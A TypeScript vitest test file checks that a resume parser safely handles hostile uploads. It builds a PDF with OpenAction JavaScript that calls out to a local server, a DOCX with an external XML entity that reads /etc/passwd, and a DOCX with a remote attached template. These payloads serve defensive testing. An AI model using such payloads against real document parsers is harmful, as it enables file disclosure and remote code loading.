import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import PizZip from 'pizzip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ProfileError } from '../../src/errors.js';
import { loadProfile } from '../../src/profile/index.js';

/**
 * Uploads come from people we do not control. A resume's embedded script, external XML entity or
 * remote template must never run, expand or be fetched: a local server counts every request such
 * a file could make.
 */
const here = path.dirname(fileURLToPath(import.meta.url));
const search = { roles: [], keywords: [] };
let server: http.Server;
let base = '';
const hits: string[] = [];
let dir = '';

beforeAll(async () => {
  server = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    res.end('SECRET-FROM-THE-NETWORK');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  dir = await mkdtemp(path.join(tmpdir(), 'hostile-'));
});
afterAll(async () => {
  await new Promise<void>((resolve) => server.close(() => resolve()));
  await rm(dir, { recursive: true, force: true });
});

/** A one-page PDF with text, an OpenAction JavaScript that calls out, and a URI link annotation. */
function pdfWithJavaScript(url: string): Buffer {
  const text = [
    'BT /F1 12 Tf 72 720 Td (Dana Whitfield) Tj ET',
    'BT /F1 11 Tf 72 690 Td (Experience) Tj ET',
    'BT /F1 10 Tf 72 670 Td (Software Engineer, Acme Corp, 2019 - 2024) Tj ET',
    'BT /F1 10 Tf 72 655 Td (Built TypeScript services on PostgreSQL.) Tj ET',
    'BT /F1 11 Tf 72 625 Td (Skills) Tj ET',
    'BT /F1 10 Tf 72 605 Td (TypeScript, Node.js, PostgreSQL) Tj ET',
  ].join('\n');
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> /Annots [7 0 R] >>',
    `<< /Length ${Buffer.byteLength(text)} >>\nstream\n${text}\nendstream`,
    `<< /Type /Action /S /JavaScript /JS (app.launchURL\\("${url}/js", true\\); this.submitForm\\("${url}/form"\\);) >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /URI /URI (${url}/uri) >> >>`,
  ];
  let body = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body);
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

async function docxWith(change: (zip: PizZip) => void): Promise<string> {
  const zip = new PizZip(await readFile(path.join(here, 'fixtures', 'maya-okafor.docx')));
  change(zip);
  const file = path.join(dir, `hostile-${hits.length}-${Math.random().toString(36).slice(2)}.docx`);
  await writeFile(file, zip.generate({ type: 'nodebuffer' }));
  return file;
}

describe('hostile resume files', () => {
  it('reads a PDF with JavaScript and links without running or following them', async () => {
    const file = path.join(dir, 'scripted.pdf');
    await writeFile(file, pdfWithJavaScript(base));
    const profile = await loadProfile(file, search);
    expect(profile.name).toBe('Dana Whitfield');
    expect(profile.skills).toEqual(expect.arrayContaining(['TypeScript']));
    expect(hits).toEqual([]);
  });

  it('never expands an external XML entity in a DOCX (file or URL)', async () => {
    const file = await docxWith((zip) => {
      const xml = zip.file('word/document.xml')!.asText();
      const doctype = `<!DOCTYPE w:document [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "${base}/xxe">]>`;
      const withEntity = xml
        .replace(/^(<\?xml[^>]*\?>)/, `$1${doctype}`)
        .replace('Maya Okafor', 'Maya Okafor &file;&net;');
      zip.file('word/document.xml', withEntity);
    });
    const outcome = await loadProfile(file, search).then(
      (profile) => JSON.stringify(profile),
      (error: unknown) => error,
    );
    // Either refused with a clear reason or read without the entities: never their contents.
    if (typeof outcome === 'string') {
      expect(outcome).not.toContain('root:');
      expect(outcome).not.toContain('SECRET-FROM-THE-NETWORK');
    } else {
      expect(outcome).toBeInstanceOf(ProfileError);
      expect((outcome as ProfileError).message).toContain(file);
    }
    expect(hits).toEqual([]);
  });

  it('never fetches a DOCX remote template (attachedTemplate with TargetMode External)', async () => {
    const file = await docxWith((zip) => {
      const settings = zip.file('word/settings.xml')!.asText();
      zip.file(
        'word/settings.xml',
        settings.replace(/(<w:settings[^>]*>)/, '$1<w:attachedTemplate r:id="rIdTpl"/>'),
      );
      zip.file(
        'word/_rels/settings.xml.rels',
        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdTpl" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${base}/template.dotm" TargetMode="External"/></Relationships>`,
      );
      const rels = zip.file('word/_rels/document.xml.rels')!.asText();
      zip.file(
        'word/_rels/document.xml.rels',
        rels.replace(
          '</Relationships>',
          `<Relationship Id="rIdImg" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="${base}/photo.png" TargetMode="External"/></Relationships>`,
        ),
      );
    });
    const profile = await loadProfile(file, search);
    expect(profile.name).toBe('Maya Okafor');
    expect(hits).toEqual([]);
  });
});
